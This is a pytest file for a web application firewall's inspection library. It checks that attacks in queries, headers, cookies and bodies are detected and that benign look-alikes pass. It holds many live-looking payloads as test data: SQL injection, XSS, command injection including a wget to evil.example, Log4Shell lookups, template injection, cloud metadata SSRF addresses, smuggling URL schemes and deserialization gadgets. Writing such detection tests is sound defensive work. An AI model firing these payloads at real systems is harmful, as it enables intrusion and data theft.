"""The WAF's inspection library (controlplane/waf/inspect.py, normalize.py, rules.py): what it
finds, where it says it found it, what it leaves alone, and what it refuses to spend.

No Envoy here: tests/test_waf.py runs the service behind a real gateway. Detection and false
positive *rates* are measured by bench/waf_corpus_bench.py; the corpus test below only holds
the line the issue sets (95 % per family, 1 % false positives)."""

from __future__ import annotations

import base64
import gzip
import json
import os
import pickle
import zlib
from urllib.parse import quote

import pytest

from controlplane.waf.inspect import FAMILIES, Exclusions, Finding, Inspector, Request
from controlplane.waf.rules import Limits, RuleSet

BROWSER = (
    ("host", "shop.example.com"),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("accept-language", "en-US,en;q=0.5"),
)


@pytest.fixture(scope="module")
def inspector() -> Inspector:
    return Inspector(RuleSet.default(), cache_size=0)


def get(path: str, *headers: tuple[str, str]) -> Request:
    return Request("GET", path, BROWSER + headers)


def post(body: bytes | str, content_type: str | None, *headers: tuple[str, str]) -> Request:
    data = body.encode() if isinstance(body, str) else body
    extra = ((("content-type", content_type),) if content_type else ()) + headers
    return Request("POST", "/api/items", BROWSER + extra, data)


def query(value: str, name: str = "q") -> Request:
    """``value`` as the client sends it (already encoded where an evasion encodes it)."""
    return get(f"/search?page=1&{name}={value}")


def families(findings: list[Finding]) -> set[str]:
    return {f.family for f in findings}


def at(findings: list[Finding], family: str) -> set[str]:
    return {f.location for f in findings if f.family == family}


# --- families -------------------------------------------------------------------------------

ATTACKS = {
    "sqli": "1%27%20OR%20%271%27%3D%271",
    "xss": "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "cmdi": "127.0.0.1%3B%20cat%20%2Fetc%2Fhostname",
    "traversal": "..%2F..%2F..%2Fsecrets%2Fkey.pem",
    "exploit": "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
}


@pytest.mark.parametrize("family", sorted(ATTACKS))
def test_each_family_is_found_in_a_query_parameter(inspector: Inspector, family: str) -> None:
    findings = inspector.inspect(query(ATTACKS[family]))
    assert family in families(findings)
    assert "query:q" in at(findings, family)


def test_xxe_any_doctype_in_an_xml_body(inspector: Inspector) -> None:
    # an internal subset with no entity at all is refused too: any DTD is XXE
    document = '<?xml version="1.0"?><!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>'
    findings = inspector.inspect(post(document, "application/xml"))
    assert next((f.rule, f.location) for f in findings if f.family == "xxe") == ("xxe.dtd", "body:xml")


def test_xxe_xinclude_in_an_xml_body(inspector: Inspector) -> None:
    document = '<r xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/hostname"/></r>'
    assert "xxe.xinclude" in {f.rule for f in inspector.inspect(post(document, "application/xml"))}


def test_xxe_sniffed_whatever_the_declared_type(inspector: Inspector) -> None:
    document = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'
    for content_type in ("application/json", "text/plain", None):
        assert "xxe.dtd" in {f.rule for f in inspector.inspect(post(document, content_type))}, content_type


def test_xxe_in_utf16_is_still_xxe(inspector: Inspector) -> None:
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///x">]><r>&e;</r>'
    assert "xxe" in families(inspector.inspect(post(document.encode("utf-16"), "application/xml")))


def test_shellshock_in_a_header(inspector: Inspector) -> None:
    findings = inspector.inspect(get("/", ("referer", "() { :; }; /bin/sleep 5")))
    assert ("exploit.shellshock", "header:referer") in {(f.rule, f.location) for f in findings}


def test_spring4shell_in_a_parameter_name(inspector: Inspector) -> None:
    findings = inspector.inspect(get("/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"))
    assert any(f.rule == "exploit.spring4shell" and f.location.endswith("#name") for f in findings)


def test_nosql_operator_in_a_json_key(inspector: Inspector) -> None:
    findings = inspector.inspect(post('{"user": "admin", "password": {"$ne": null}}', "application/json"))
    assert ("sqli.nosql-operator", "body:/password/$ne#key") in {(f.rule, f.location) for f in findings}


# --- evasions: each needs its decoding or view to be found ----------------------------------


def fullwidth(text: str) -> str:
    """ASCII punctuation and letters as their fullwidth forms (NFKC folds them back)."""
    return "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)


EVASIONS = {
    # evasion: (family, what the client sends in ?q=)
    "double-url": ("sqli", quote(quote("' OR 'a'='a", safe=""), safe="")),
    "triple-url": ("xss", quote(quote(quote("<script>alert(1)</script>", safe=""), safe=""), safe="")),
    "percent-u": ("xss", "%u003Csvg%u0020onload%u003Dalert(1)%u003E"),
    "overlong-utf8": ("traversal", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afshadow"),
    "html-entities": ("xss", quote("&lt;iframe src&#61;//evil.example&gt;", safe="")),
    "html-entities-no-semicolon": ("xss", quote("&#60iframe src=//evil.example&#x3E", safe="")),
    "js-unicode-escapes": ("xss", quote("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", safe="")),
    "js-hex-escapes": ("cmdi", quote("\\x3b cat \\x2fetc\\x2fhostname", safe="")),
    "nfkc-fullwidth": ("xss", quote(fullwidth("<iframe src=//evil.example>"), safe="")),
    "lookalike-quotes": ("sqli", quote("x\u2019 OR \u20191\u2019=\u20191", safe="")),
    "case": ("xss", quote("JaVaScRiPt:AlErT(1)", safe="")),
    "shell-quoting": ("cmdi", quote("; c'a't /e\"t\"c/host\\name", safe="")),
    "shell-brace": ("cmdi", quote(";{cat,/etc/hostname}", safe="")),
    "shell-newline": ("cmdi", quote("x\nwhoami", safe="")),
    "log4j-nested": ("exploit", quote("${${lower:j}${::-n}${env:NONE:-d}i:ldap://evil.example/a}", safe="")),
    "log4j-nested-deeper": ("exploit", quote("${${lower:${upper:j}}ndi:ldap://evil.example/a}", safe="")),
    "nul-inside": ("traversal", "..%00/..%00/etc/hostname"),
    "zero-width-inside": ("sqli", quote("1' UN\u200bION SEL\u200bECT password FROM users--", safe="")),
}


@pytest.mark.parametrize("evasion", sorted(EVASIONS))
def test_each_evasion_is_undone(inspector: Inspector, evasion: str) -> None:
    family, sent = EVASIONS[evasion]
    assert family in families(inspector.inspect(query(sent)))


VIEWS = {
    # what the rules see once the SQL or shell view has undone a trick (libinjection reads
    # comments itself, so these name the rule that needs the view)
    "sql-comments": ("sqli.union-select", "-1/**/UnIoN/**/SeLeCt/**/1,2--"),
    "mysql-versioned-comments": ("sqli.union-select", "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
    "sql-line-comment": ("sqli.union-select", "-1 UNION#x\nSELECT 1,2"),
    "sql-whitespace": ("sqli.union-select", "1\x0bUNION\x0cSELECT\xa0password\tFROM\nusers"),
    "shell-ifs": ("cmdi.separator-command", ";cat${IFS}/etc/hostname"),
    "shell-unset-variable": ("cmdi.separator-command", ";c$u'a't /etc/hostname"),
    "shell-variable-in-brace-list": ("cmdi.separator-command", "; {echo,$PATH}"),
    "shell-caret": ("cmdi.bare-command", "& w^h^o^a^m^i"),
}


@pytest.mark.parametrize("trick", sorted(VIEWS))
def test_each_view_undoes_its_tricks(inspector: Inspector, trick: str) -> None:
    rule, value = VIEWS[trick]
    assert rule in {f.rule for f in inspector.inspect(query(quote(value, safe="")))}


def test_log4j_lookups_are_resolved(inspector: Inspector) -> None:
    """The resolver, not a pattern: a lookup whose default spells jndi is found however it is
    nested."""
    sent = quote("${${env:NONE:-j}${env:NONE:-n}d${date:'i'}:ldap://evil.example/a}", safe="")
    assert "exploit.log4shell" in {f.rule for f in inspector.inspect(query(sent))}
    assert "exploit.log4shell" not in {f.rule for f in inspector.inspect(query(quote("${env:HOME}/logs", safe="")))}


def test_injection_after_prose_with_apostrophes(inspector: Inspector) -> None:
    """libinjection reads a value from its start; an injection behind text that has its own
    apostrophes is found by reading again from each quote."""
    sent = quote("It's my dad's gift. x' OR 1=1 LIMIT 1 OFFSET 1 -- ", safe="")
    assert "sqli.libinjection" in {f.rule for f in inspector.inspect(query(sent))}


# --- payload classes a held-out set missed (holdout2.yaml), each generalized ----------------------

SQL_ERROR_FUNCTIONS = [
    # MySQL functions that print their argument in an error message, fed a query's result
    "x' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- ",
    "1 AND GTID_SUBTRACT(CONCAT(0x7e,(SELECT version()),0x7e),1)",
    "1 and updatexml(1,concat(0x7e,(select user()),0x7e),1)",
    "' and exp(~(select*from(select user())x))-- -",
    "1 AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)",
    "1 AND GEOMETRYCOLLECTION((SELECT * FROM (SELECT * FROM(SELECT user())a)b))",
    "') AND MULTIPOINT((SELECT * FROM (SELECT * FROM(SELECT user())a)b))-- ",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user(),0x7e)) USING utf8)))",
    "1 AND ST_LatFromGeoHash((SELECT CONCAT(0x7e,version())))",
    # PostgreSQL and SQL Server: a subquery's text cast to a number
    "1' AND 1=CAST((SELECT version()) AS int)--",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM users))--",
]


@pytest.mark.parametrize("payload", SQL_ERROR_FUNCTIONS)
def test_error_based_sql_functions(inspector: Inspector, payload: str) -> None:
    findings = inspector.inspect(query(quote(payload, safe="")))
    assert "sqli.error-function" in rules_of(findings)


def test_lax_overlong_utf8_reads_punctuation_like_old_decoders(inspector: Inspector) -> None:
    """A lead byte before a byte that is no continuation: IIS-era decoders kept the low six
    bits of each, so ``%c0%2e`` is ``.`` and ``%c1%1c`` is a backslash, in every placement."""
    findings = inspector.inspect(query("%c0%2e%c0%2e%c0%2fetc%c0%2fhostname"))
    assert {"traversal", "protocol"} <= families(findings)
    assert "traversal" in families(inspector.inspect(query("..%c1%1c..%c1%1cwindows%c1%1cwin.ini")))
    assert "traversal" in families(inspector.inspect(get("/static/%e0%80%2e%e0%80%2e/%c0%2e%c0%2e/etc/hostname")))
    body = post(b"\xc0\x2e\xc0\x2e\xc0\x2f\xc0\x2e\xc0\x2e\xc0\x2fetc\xc0\x2fhostname", "text/plain")
    assert "traversal" in families(inspector.inspect(body))
    # Latin-1 from an old form: A-grave before a space, A-acute before a letter stay letters
    assert inspector.inspect(query("%C0%20la%20carte%2C%20%C1lvaro")) == []


TEMPLATE_INJECTIONS = {
    "freemarker-execute": '${"freemarker.template.utility.Execute"?new()("id")}',
    "freemarker-assign": '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "freemarker-protection-domain": "${product.getClass().getProtectionDomain().getCodeSource()}",
    "velocity-class-inspect": '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
    "jinja2-loop-over-subclasses": "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "twig-self-env": '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "twig-filter-system": "{{['id']|filter('system')}}",
    "thymeleaf-selection": "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "spel-bare": "T(java.lang.System).getenv()",
    "erb-system": '<%= system("id") %>',
    "erb-io-popen": "<%= IO.popen('id').readlines() %>",
    "smarty-function": "{system('id')}",
    "handlebars-with": '{{#with "s" as |string|}}{{#with "e"}}{{this.pop}}{{/with}}{{/with}}',
    "pug-process": "#{root.process.mainModule.require('child_process').spawnSync('id')}",
    "mako-module-cache": '${self.module.cache.util.os.system("id")}',
    "razor-process": '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
}


@pytest.mark.parametrize("engine", sorted(TEMPLATE_INJECTIONS))
def test_server_side_template_injection(inspector: Inspector, engine: str) -> None:
    findings = inspector.inspect(post(json.dumps({"subject": TEMPLATE_INJECTIONS[engine]}), "application/json"))
    assert "exploit" in families(findings)


INLINE_COMMANDS = [
    "; awk 'BEGIN {system(\"id\")}'",
    "; gawk 'BEGIN{system(\"id\")}'",
    "| xargs rm -rf",
    "; find . -exec id \\;",
    "; busybox wget http://evil.example/x",
    "& busybox sh",
]


@pytest.mark.parametrize("payload", INLINE_COMMANDS)
def test_interpreters_and_launchers_after_a_separator(inspector: Inspector, payload: str) -> None:
    assert "cmdi" in families(inspector.inspect(query(quote(payload, safe=""))))


# --- payload classes the third held-out set missed (holdout3.yaml), each generalized --------------
# holdout3.yaml is a regression set since (rules v2025.12.2): these cases are other members of
# each class, not its payloads.

BLIND_PROBES = [
    "; sleep 10 #",
    "| sleep 5;",
    "1;sleep 0.5s ;",
    "&& usleep 3000000 &",
    "|| timeout 10 ||",
    "\nsleep 10 #",
    "; {sleep,10} #",
    "; s''leep 10 #",
    "; ping localhost #",
    "; Start-Sleep -s 10 #",
]


@pytest.mark.parametrize("payload", BLIND_PROBES)
def test_time_based_blind_probe_after_a_separator(inspector: Inspector, payload: str) -> None:
    assert "cmdi" in families(inspector.inspect(query(quote(payload, safe=""))))


METADATA_ADDRESSES = [
    "http://0xA9FEA9FE/",  # 169.254.169.254 as one hex number
    "http://0x00a9fea9fe/",
    "http://2852039166/",  # … one decimal number
    "http://025177524776/",  # … one octal number
    "http://0251.0376.0251.0376/",  # dotted octal
    "http://0xa9.0xfe.0xa9.0xfe/",  # dotted hex
    "http://169.0xfe.0251.254/",  # each part its own base
    "http://169.254.43518/",  # three parts: the last is 16 bits
    "http://169.16689662/",  # two parts: the last is 24 bits
    "http://attacker.example@2852039166:80/",
    "http://[::ffff:a9fe:a9fe]/",  # IPv4-mapped IPv6
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
    "http://169.254.170.2/v2/credentials/1f2e",  # ECS task credentials
    "http://169.254.170.23/v1/credentials",  # EKS pod identity
    "http://0x646464c8/",  # Alibaba's 100.100.100.200
    "http://[fd00:ec2:0:0:0:0:0:254]/",
    "0xa9fea9fe",  # a host parameter
]


@pytest.mark.parametrize("url", METADATA_ADDRESSES)
def test_cloud_metadata_address_in_any_notation(inspector: Inspector, url: str) -> None:
    assert "exploit" in families(inspector.inspect(query(quote(url, safe=""), "url")))


SMUGGLING_SCHEMES = [
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%244%0D%0Aping%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "tftp://203.0.113.9/payload",
    "netdoc:///etc/hostname",
    "jar:http://203.0.113.9/x.jar!/a.class",
    "data://text/plain;base64,PD9waHAgZWNobyAxOyA/Pg==",
    "ssh2.exec://user:pass@203.0.113.9:22/id",
]


@pytest.mark.parametrize("url", SMUGGLING_SCHEMES)
def test_url_schemes_that_smuggle_requests(inspector: Inspector, url: str) -> None:
    assert "exploit" in families(inspector.inspect(query(quote(url, safe=""), "url")))


class _Reduces:
    """Pickles as a call of os.system (only ever dumped here, never loaded)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("id",))


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_python_pickle_in_base64(inspector: Inspector, protocol: int) -> None:
    token = base64.b64encode(pickle.dumps(_Reduces(), protocol=protocol)).decode()
    assert "exploit" in families(inspector.inspect(get("/", ("cookie", f"session={token}"))))
    urlsafe = base64.urlsafe_b64encode(pickle.dumps(_Reduces(), protocol=protocol)).decode()
    assert "exploit" in families(inspector.inspect(query(quote(urlsafe, safe=""), "state")))


def test_python_pickle_as_text(inspector: Inspector) -> None:
    handmade = "cos\nsystem\n(S'id'\ntR."
    assert "exploit" in families(inspector.inspect(post(handmade, "text/plain")))
    assert "exploit" in families(inspector.inspect(query(quote(base64.b64encode(handmade.encode()).decode()))))


TYPED_PAYLOADS = {
    # a JSON body: its members are read one by one, the class name alone is the sign
    "json.net-body": post(
        json.dumps(
            {
                "$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework",
                "MethodName": "Start",
                "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c id"]},
            }
        ),
        "application/json",
    ),
    "json.net-windows-identity": post(
        json.dumps({"$type": "System.Security.Principal.WindowsIdentity, mscorlib", "actor": "AAEAAAD/////"}),
        "application/json",
    ),
    "fastjson-body": post(
        json.dumps({"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://x.example/a"}}),
        "application/json",
    ),
    "jackson-default-typing": post(
        json.dumps(["org.apache.xbean.propertyeditor.JndiConverter", {"asText": "ldap://x.example/a"}]),
        "application/json",
    ),
    # JSON as text in a value: the type discriminator and any platform class it names
    "fastjson-autocloseable": query(quote('{"@type":"java.lang.AutoCloseable","@type":"x.Y"}', safe="")),
    "fastjson-l-descriptor": query(quote('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;"}', safe="")),
    "dotnet-__type": query(quote('{"__type":"System.IO.FileInfo, System.IO.FileSystem","fileName":"a"}', safe="")),
    "pyyaml-apply": post('!!python/object/apply:os.system ["id"]', "text/plain"),
    "ruby-yaml-object": post("--- !ruby/object:Gem::Installer\ni: x\n", "text/plain"),
}


@pytest.mark.parametrize("name", sorted(TYPED_PAYLOADS))
def test_deserialization_types_and_gadgets(inspector: Inspector, name: str) -> None:
    assert "exploit" in families(inspector.inspect(TYPED_PAYLOADS[name]))


def test_repeated_parameters_are_joined(inspector: Inspector) -> None:
    """ASP.NET hands the application q=a&q=b as "a,b": an attack split across the two is
    found in the joined value."""
    findings = inspector.inspect(get("/search?q=%3Cimg%20src%3Dx&q=%20onerror%3Dalert(1)%3E"))
    assert "query:q[*]" in at(findings, "xss")


def test_attack_in_the_second_of_repeated_parameters(inspector: Inspector) -> None:
    findings = inspector.inspect(get("/search?q=shoes&q=%27%20OR%201%3D1--"))
    assert "query:q[1]" in at(findings, "sqli")


def test_path_whole_and_by_segment(inspector: Inspector) -> None:
    findings = inspector.inspect(get("/api/users/1%27%20OR%20%271%27%3D%271/orders"))
    assert at(findings, "sqli") == {"path"}
    # traversal spans segments: the whole decoded path
    findings = inspector.inspect(get("/static/..%2f..%2f..%2fetc%2fpasswd"))
    assert "path" in at(findings, "traversal")
    # a rule anchored at a value's start sees each segment as a value
    findings = inspector.inspect(get("/fetch/file:%2F%2F%2Fsrv%2Fapp%2Fconfig.yml/raw"))
    assert "traversal.file-url" in {f.rule for f in findings}


# --- where: headers, cookies, credentials ------------------------------------------------------


def test_cookies_one_by_one(inspector: Inspector) -> None:
    findings = inspector.inspect(get("/", ("cookie", "theme=dark; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E; lang=en")))
    assert at(findings, "xss") == {"cookie:pref"}


def test_non_standard_and_forwarded_headers(inspector: Inspector) -> None:
    findings = inspector.inspect(get("/", ("x-forwarded-for", "1.2.3.4' OR '1'='1"), ("x-tenant", "../../etc")))
    assert "header:x-forwarded-for" in at(findings, "sqli")
    assert "header:x-tenant" in at(findings, "traversal")


def test_strict_grammar_headers_still_inspected_when_off_grammar(inspector: Inspector) -> None:
    """Accept is skipped when it is a list of media ranges; a path in it is not one
    (Rails' CVE-2019-5418 read files through Accept)."""
    assert inspector.inspect(get("/")) == []
    findings = inspector.inspect(Request("GET", "/", (("accept", "../passwd"),)))
    assert "header:accept" in at(findings, "traversal")


def test_bearer_token_not_inspected_but_odd_authorization_is(inspector: Inspector) -> None:
    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"
    assert inspector.inspect(get("/", ("authorization", f"Bearer {token}"))) == []
    findings = inspector.inspect(get("/", ("authorization", "Bearer ' OR '1'='1")))
    assert "header:authorization" in at(findings, "sqli")


def test_basic_auth_user_name_inspected_password_never(inspector: Inspector) -> None:
    password_only = base64.b64encode(b"jane:p@ss' OR '1'='1").decode()
    assert inspector.inspect(get("/", ("authorization", f"Basic {password_only}"))) == []
    user = base64.b64encode(b"admin' OR '1'='1:x").decode()
    findings = inspector.inspect(get("/", ("authorization", f"Basic {user}")))
    assert at(findings, "sqli") == {"header:authorization:username"}
    assert all(f.snippet != "x" for f in findings)


# --- bodies -------------------------------------------------------------------------------------


def test_json_every_string_with_its_pointer_and_keys(inspector: Inspector) -> None:
    body = {"items": [{"name": "ok"}, {"name": "<svg onload=alert(1)>"}], "a/b": {"<script>": 1}}
    findings = inspector.inspect(post(json.dumps(body), "application/json"))
    assert at(findings, "xss") == {"body:/items/1/name", "body:/a~1b/<script>#key"}


def test_json_duplicate_keys_are_all_inspected(inspector: Inspector) -> None:
    findings = inspector.inspect(post('{"q": "<script>alert(1)</script>", "q": "fine"}', "application/json"))
    assert "body:/q" in at(findings, "xss")


def test_json_vendor_type(inspector: Inspector) -> None:
    body = json.dumps({"q": "' OR '1'='1"})
    assert "sqli" in families(inspector.inspect(post(body, "application/vnd.api+json")))


def test_form_fields(inspector: Inspector) -> None:
    findings = inspector.inspect(
        post("name=Jane&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "application/x-www-form-urlencoded")
    )
    assert at(findings, "xss") == {"body:form:comment"}


BOUNDARY = "----b0undary"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def multipart(*parts: tuple[str, str]) -> bytes:
    """Each part: (its headers after Content-Disposition's form-data, its content)."""
    out = ""
    for disposition, content in parts:
        out += f"--{BOUNDARY}\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{content}\r\n"
    return (out + f"--{BOUNDARY}--\r\n").encode()


def test_multipart_text_part_name_and_filename(inspector: Inspector) -> None:
    body = multipart(
        ('name="title"', "holiday"),
        ('name="comment"', "x'; DROP TABLE users; --"),
        ('name="photo"; filename="../../../etc/cron.d/x"\r\nContent-Type: image/png', "\x89PNG"),
    )
    findings = inspector.inspect(post(body, MULTIPART))
    assert "body:part:comment" in at(findings, "sqli")
    assert "body:part:photo#filename" in at(findings, "traversal")


def test_multipart_json_part_and_encoded_parts(inspector: Inspector) -> None:
    encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
    body = multipart(
        ('name="meta"\r\nContent-Type: application/json', '{"title": "<svg onload=alert(1)>"}'),
        ('name="note"\r\nContent-Transfer-Encoding: base64', encoded),
        ('name="memo"\r\nContent-Transfer-Encoding: quoted-printable', "=3Ciframe src=3D//evil.example=3E"),
    )
    findings = inspector.inspect(post(body, MULTIPART))
    assert at(findings, "xss") >= {"body:part:meta:/title", "body:part:note", "body:part:memo"}


def test_multipart_binary_part_gives_no_false_positive(inspector: Inspector) -> None:
    noise = bytes(range(256)).decode("latin-1") * 8
    body = multipart(('name="photo"; filename="a.png"\r\nContent-Type: image/png', noise))
    assert inspector.inspect(post(body.replace(noise.encode(), noise.encode("latin-1")), MULTIPART)) == []


def test_xml_element_text_and_attributes(inspector: Inspector) -> None:
    document = "<order id=\"1' OR '1'='1\"><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>"
    findings = inspector.inspect(post(document, "application/xml"))
    assert "body:xml:/order/note" in at(findings, "xss")
    assert "body:xml:/order/@id" in at(findings, "sqli")


def test_plain_text_body(inspector: Inspector) -> None:
    assert "cmdi" in families(inspector.inspect(post("hello\n; cat /etc/hostname", "text/plain")))


def test_gzip_request_body_is_inflated(inspector: Inspector) -> None:
    body = gzip.compress(json.dumps({"q": "<script>alert(1)</script>"}).encode())
    findings = inspector.inspect(post(body, "application/json", ("content-encoding", "gzip")))
    assert "body:/q" in at(findings, "xss")


def test_unknown_content_encoding_is_refused(inspector: Inspector) -> None:
    findings = inspector.inspect(post(b"\x00\x01", "application/json", ("content-encoding", "br")))
    assert {f.rule for f in findings} == {"protocol.content-encoding"}


def test_body_not_of_its_declared_type_is_protocol_and_still_inspected(inspector: Inspector) -> None:
    findings = inspector.inspect(post("{'q': '<script>alert(1)</script>'", "application/json"))
    assert "protocol.body-unparsable" in {f.rule for f in findings}
    assert "xss" in families(findings)
    broken = multipart(('name="a"', "x")).replace(f"--{BOUNDARY}--".encode(), b"")
    assert "protocol.body-unparsable" in {f.rule for f in inspector.inspect(post(broken, MULTIPART))}
    assert "protocol.body-unparsable" in {f.rule for f in inspector.inspect(post("<a><b></a>", "application/xml"))}


# --- benign traffic that looks dangerous ---------------------------------------------------------

BENIGN = [
    get("/search?q=O%27Brien&category=names"),
    get("/search?q=select+union+drop&sort=price"),
    get("/search?q=how+to+drop+a+table+in+sql"),
    get("/files/report.final.v2.pdf"),
    get("/api/items?range=1..10&tag=c%2B%2B"),
    get("/wiki/Rock_%27n%27_roll", ("cookie", "_ga=GA1.2.123.456; cart=%7B%22items%22%3A%5B42%5D%7D")),
    post(
        json.dumps({"name": "Seán O'Sullivan", "note": "Please drop it at the back door; thanks!"}), "application/json"
    ),
    post(json.dumps({"text": "It's 100% cotton & 'pre-shrunk'. 5' 11\" tall."}), "application/json"),
    # libinjection fingerprints this one (words only: nTnkn); words alone are no injection
    post(json.dumps({"note": "I like to drop tables from the list"}), "application/json"),
    post("name=D%27Angelo&msg=I%27d+like+to+select+a+size%3B+thanks", "application/x-www-form-urlencoded"),
    post('<?xml version="1.0"?><order><customer>O\'Brien &amp; Sons</customer></order>', "application/xml"),
    # what the error-function, template and interpreter rules must leave alone
    get("/search?q=extract+value+and+update+xml+tool"),
    post(
        json.dumps({"note": "The polygon (select the tool first); my user name is my database name."}),
        "application/json",
    ),
    post(json.dumps({"note": "I use awk and sed daily; awk is great. What's new()?"}), "application/json"),
    post(
        json.dumps(
            {
                "body": "Hello {{ first_name }}, order {{ order_id }}: {{#each items}}{{this.name}}{{/each}}",
                "footer": "{% if user.admin %}Admin{% endif %} <#if user??>${user.name}</#if> #set($x = 1)$x",
            }
        ),
        "application/json",
    ),
    # what the blind-probe, metadata, scheme, pickle and typed-JSON rules must leave alone
    post(
        json.dumps(
            {
                "note": "After a night shift I sleep 10 hours; sleep 8 is my usual. Set a timer; timeout 30 s.",
                "hobby": "The gopher dug up my garden; a dict: keys and values.",
                "logo": "https://cdn.example.com/assets/0xA9FEA9FE/logo.png",
                "tx": "https://explorer.example.org/tx/0xa9fea9fe3b1c22d4",
                "where": "169.16689662, -45.87",
                "photo": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAC"
                "hwGA60e6kgAAAABJRU5ErkJggg==",
                "embedded": '{"$type": "Shop.Models.Order, Shop", "lines": '
                '{"$type": "System.Collections.Generic.List`1[[Shop.Line, Shop]], mscorlib"}}',
            }
        ),
        "application/json",
    ),
    post(json.dumps({"@context": "https://schema.org", "@type": "Product", "name": "Trail shoe"}), "application/json"),
    post(json.dumps({"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": "QUOTA"}), "application/json"),
    # a Fernet token (itsdangerous, cryptography) opens with 0x80 too, then a timestamp
    get("/", ("cookie", "session=gAAAAABlZ3V4Hq2kZ3UyjW7FwHw9H8iKbJwD0LbSxJfyqnmRvV3Vd3qAz2wCjRbaRRxZ7t1Nq3zOQ==")),
]


@pytest.mark.parametrize("index", range(len(BENIGN)))
def test_benign_requests_pass(inspector: Inspector, index: int) -> None:
    assert inspector.inspect(BENIGN[index]) == []


# --- exclusions and safe locations -----------------------------------------------------------


RICH = post(
    json.dumps({"title": "x", "content": "<p>Hi <b>there</b><iframe src=//a.example></iframe></p>"}), "application/json"
)


def test_location_family_exclusion_skips_one_family_at_one_place(inspector: Inspector) -> None:
    assert at(inspector.inspect(RICH), "xss") == {"body:/content"}
    excluded = Exclusions(location_families=(("body:/content", "xss"),))
    assert inspector.inspect(RICH, excluded) == []
    # the same field still gets the other families
    sqli = post(json.dumps({"content": "<p>x</p>' OR '1'='1"}), "application/json")
    assert "sqli" in families(inspector.inspect(sqli, excluded))


def test_location_exclusion_covers_what_is_below_it_and_wildcards(inspector: Inspector) -> None:
    body = json.dumps({"items": [{"html": "<script>alert(1)</script>"}, {"html": "<svg onload=alert(1)>"}]})
    request = post(body, "application/json")
    assert len(at(inspector.inspect(request), "xss")) == 2
    assert inspector.inspect(request, Exclusions(locations=("body:/items",))) == []
    assert inspector.inspect(request, Exclusions(locations=("body:/items/*/html",))) == []
    assert len(at(inspector.inspect(request, Exclusions(locations=("body:/item",))), "xss")) == 2


def test_excluded_location_keeps_protocol_findings(inspector: Inspector) -> None:
    request = post(json.dumps({"content": "a\u0000b"}), "application/json")
    excluded = Exclusions(locations=("body:/content",))
    assert {f.rule for f in inspector.inspect(request, excluded)} == {"protocol.nul-byte"}


def test_family_and_rule_exclusions(inspector: Inspector) -> None:
    request = query(quote("<script>alert(1)</script>' OR '1'='1", safe=""))
    assert families(inspector.inspect(request)) >= {"xss", "sqli"}
    assert "xss" not in families(inspector.inspect(request, Exclusions(families=("xss",))))
    rules = {f.rule for f in inspector.inspect(request, Exclusions(rules=("xss.script-tag",)))}
    assert "xss.script-tag" not in rules and "xss.libinjection" in rules


def test_safe_locations_are_not_inspected(inspector: Inspector) -> None:
    request = query("%27%20OR%201%3D1--", name="sort")
    assert "sqli" in families(inspector.inspect(request))
    assert inspector.inspect(request, safe_locations=frozenset({"query:sort"})) == []


# --- bounds: past a limit is a finding, never a pass ------------------------------------------


def limited(**limits: int) -> Inspector:
    data = RuleSet.default().to_data()
    data["limits"] = limits
    return Inspector(RuleSet.from_data(data), cache_size=0)


def rules_of(findings: list[Finding]) -> set[str]:
    return {f.rule for f in findings}


def test_value_longer_than_its_limit(inspector: Inspector) -> None:
    assert rules_of(limited(max_value_chars=100).inspect(query("a" * 101))) == {"protocol.limits"}
    assert limited(max_value_chars=100).inspect(query("a" * 100)) == []


def test_body_larger_than_its_limit() -> None:
    findings = limited(max_body_bytes=1000).inspect(post(json.dumps({"a": "b" * 1000}), "application/json"))
    assert [(f.rule, f.location) for f in findings] == [("protocol.limits", "body")]


def test_decompression_bomb_stops_at_the_body_limit() -> None:
